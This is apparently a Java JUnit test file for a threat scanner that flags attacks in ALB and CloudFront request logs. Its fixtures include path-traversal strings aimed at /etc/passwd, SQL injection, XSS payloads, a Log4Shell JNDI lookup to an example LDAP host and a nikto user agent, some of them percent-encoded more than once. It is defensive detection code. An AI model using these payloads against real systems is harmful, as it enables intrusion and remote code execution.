package io.weir.threat;

import static io.weir.threat.ThreatHit.Location.PATH;
import static io.weir.threat.ThreatHit.Location.QUERY;
import static org.assertj.core.api.Assertions.assertThat;

import io.weir.log.Escaping;
import io.weir.log.Slice;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class ThreatScannerTest {
  private final ThreatScanner scanner = new ThreatScanner(ThreatScanner.DEFAULT_MIN_CONFIDENCE);

  static List<Sample> attacks() {
    return Sample.attacks();
  }

  static List<Sample> harmless() {
    return Sample.harmless();
  }

  static List<Sample> ordinary() {
    return Sample.ordinary();
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void attack_isFoundInItsClass(Sample attack) {
    assertThat(attack.scan(scanner))
        .extracting(ThreatHit::threatClass)
        .contains(attack.expected().orElseThrow());
  }

  @ParameterizedTest
  @MethodSource({"ordinary", "harmless"})
  void ordinaryRequest_hasNoHits(Sample ordinary) {
    assertThat(ordinary.scan(scanner)).isEmpty();
  }

  @Test
  void hits_comeMostConfidentFirst() {
    List<ThreatHit> hits =
        Sample.of(java.util.Optional.empty(), "/.git/x?id=7'+union+select+1--").scan(scanner);

    assertThat(hits).hasSizeGreaterThan(1);
    assertThat(hits).isSortedAccordingTo((a, b) -> Double.compare(b.confidence(), a.confidence()));
  }

  @Test
  void lowerMinimum_showsMore() {
    Sample weak = Sample.of(java.util.Optional.empty(), "/a?f=../b.png");

    assertThat(weak.scan(scanner)).isEmpty();
    assertThat(weak.scan(new ThreatScanner(0.2))).isNotEmpty();
  }

  @Test
  void secondSightOfAnAgent_findsTheSame() {
    Sample agent = Sample.of(java.util.Optional.empty(), "agent: nikto/2.5");

    assertThat(agent.scan(scanner)).isEqualTo(agent.scan(scanner)).isNotEmpty();
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void secondSightOfARequest_findsTheSame(Sample attack) {
    ThreatScanner forgetful = new ThreatScanner(ThreatScanner.DEFAULT_MIN_CONFIDENCE, false);

    assertThat(attack.scan(scanner)).isEqualTo(attack.scan(scanner));
    assertThat(attack.scan(scanner)).containsAll(attack.scan(forgetful));
  }

  @Test
  void attackInPathAndQuery_isToldOncePerRule() {
    Sample twice =
        Sample.of(
            java.util.Optional.empty(), "/a/..%2f..%2f..%2fetc/passwd?f=../../../etc/passwd&a=1");

    assertThat(twice.scan(scanner)).extracting(ThreatHit::rule).doesNotHaveDuplicates();
    assertThat(twice.scan(scanner)).extracting(ThreatHit::location).containsOnly(PATH, QUERY);
  }

  @Test
  void sameAgentInAnotherEscaping_isLookedAtAgain() {
    Slice agent = Slice.of("a%24%7Bjndi:ldap://a.example%7D");
    Slice none = new Slice();
    Slice path = Slice.of("/");

    List<ThreatHit> inCloudFront = scanner.scan(none, path, none, agent, none, Escaping.PERCENT);
    List<ThreatHit> inAlb = scanner.scan(none, path, none, agent, none, Escaping.BACKSLASH_HEX);

    assertThat(inCloudFront).extracting(ThreatHit::rule).contains("jndi.lookup");
    assertThat(inAlb).extracting(ThreatHit::rule).contains("jndi.lookup");
  }

  /**
   * The same request as an ALB writes it and as CloudFront does, which encodes percent signs again.
   */
  @ParameterizedTest
  @CsvSource(
      delimiter = ' ',
      value = {
        "f=..%2f..%2fetc%2fhosts f=..%252f..%252fetc%252fhosts",
        "f=%2e%2e%2f%2e%2e%2fa f=%252e%252e%252f%252e%252e%252fa",
        "f=%252e%252e/%252e%252e/a f=%25252e%25252e/%25252e%25252e/a",
        "q=\\x22><svg/onload=alert(7)> q=%22%3E%3Csvg/onload=alert(7)%3E",
        "id=7\\x22+or+\\x221\\x22=\\x221 id=7%22+or+%221%22=%221",
        "id=7%27%20union%20select%201 id=7%2527%2520union%2520select%25201"
      })
  void sameAttack_isTheSameRuleInAlbAndCloudFront(String alb, String cloudFront) {
    Slice none = new Slice();
    Slice path = Slice.of("/");

    List<ThreatHit> first =
        scanner.scan(none, path, Slice.of(alb), none, none, Escaping.BACKSLASH_HEX);
    List<ThreatHit> second =
        scanner.scan(none, path, Slice.of(cloudFront), none, none, Escaping.PERCENT);

    assertThat(first).isNotEmpty();
    assertThat(second).isEqualTo(first);
  }

  @Test
  void fragment_isBoundedAndHidesSecrets() {
    String padding = "x".repeat(400);
    List<ThreatHit> hits =
        Sample.of(java.util.Optional.empty(), "/a?password=hunter2&q=%3Cscript%3E" + padding)
            .scan(scanner);

    assertThat(hits).isNotEmpty();
    assertThat(hits).allSatisfy(hit -> assertThat(hit.fragment()).hasSizeLessThan(140));
    assertThat(hits).allSatisfy(hit -> assertThat(hit.fragment()).doesNotContain("hunter2"));
  }
}
